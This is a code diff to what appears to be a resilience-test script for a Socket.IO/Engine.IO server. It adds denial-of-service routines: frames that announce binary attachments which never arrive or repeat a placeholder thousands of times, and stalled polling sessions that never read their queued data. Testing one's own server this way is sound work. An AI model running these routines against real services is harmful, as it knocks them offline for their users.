@@ -52,14 +52,14 @@ function ask(path, options = {}) {
   });
 }
 
-/** `count` polling sessions that nobody polls. */
-async function abandoned(count, from = localAddress) {
+/** `count` polling sessions that nobody polls, with these headers. */
+async function abandoned(count, from = localAddress, headers = {}) {
   const agent = new http.Agent({ keepAlive: true, maxSockets: 40 });
   const sids = [];
   let refused = 0;
   await Promise.all(times(40, async () => {
     while (sids.length + refused < count) {
-      const { status, text } = await ask(`${PATH}?EIO=4&transport=polling`, { agent, localAddress: from });
+      const { status, text } = await ask(`${PATH}?EIO=4&transport=polling`, { agent, localAddress: from, headers });
       if (status === 200) sids.push(/"sid":"([^"]+)/.exec(text)[1]);
       else refused += 1;
     }
@@ -118,6 +118,34 @@ const attacks = {
       'large half POSTs': sids.map((sid) => connection(port, { localAddress, first: `POST ${PATH}?EIO=4&transport=polling&sid=${sid} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n${much}` })),
     };
     return watch(groups);
+  },
+
+  /** 200 of nearly the largest size, whose attachments never come; and 50 that name a large attachment again and again. */
+  async attachments() {
+    const event = (count, parts) => `45${count}-["message",${parts}]`;
+    const empty = event(9, '[],'.repeat(300_000).slice(0, -1));
+    const again = event(1, `[${Array(5_000).fill('{"_placeholder":true,"num":0}')}]`);
+    // What comes before it is joined has no effect.
+    const joined = (...frames) => webSocket(port, { cookie, localAddress, then: ({ socket }) => setTimeout(() => frames.forEach((bytes) => socket.write(bytes)), 1_000) });
+    return watch({
+      'attachments that never come': times(200, () => joined(frame(empty))),
+      'attachments named 5,000 times': times(50, () => joined(frame(again), frame(Buffer.alloc(500_000), { opcode: 2 }))),
+    });
+  },
+
+  /** 100 polling sessions for which much has been waiting: they ask for it, half of them as JSONP, and read nothing. */
+  async polls() {
+    const headers = { cookie };
+    const { sids } = await abandoned(100, localAddress, headers);
+    const path = (sid) => `${PATH}?EIO=4&transport=polling&sid=${sid}`;
+    await Promise.all(sids.map((sid) => ask(path(sid), { method: 'POST', body: '40', headers })));
+    say({ ready: true });
+    await order();
+    const all = sids.map((sid, i) => connection(port, { first: `GET ${path(sid)}${i % 2 ? '&j=0' : ''} HTTP/1.1\r\nHost: x\r\nCookie: ${cookie}\r\n\r\n`, localAddress }));
+    await Promise.all(all.map(({ ready }) => ready));
+    all.forEach(({ socket }) => socket.pause());
+    say({ asked: true });
+    await order();
   },
 
   /** Ask for the whole history, again and again, and read nothing. */
@@ -208,7 +236,7 @@ const attacks = {
   },
 };
 
-if (!['unread', 'malformed', 'bombs'].includes(name)) {
+if (!['unread', 'polls', 'malformed', 'bombs'].includes(name)) {
   say({ ready: true });
   await order();
 }
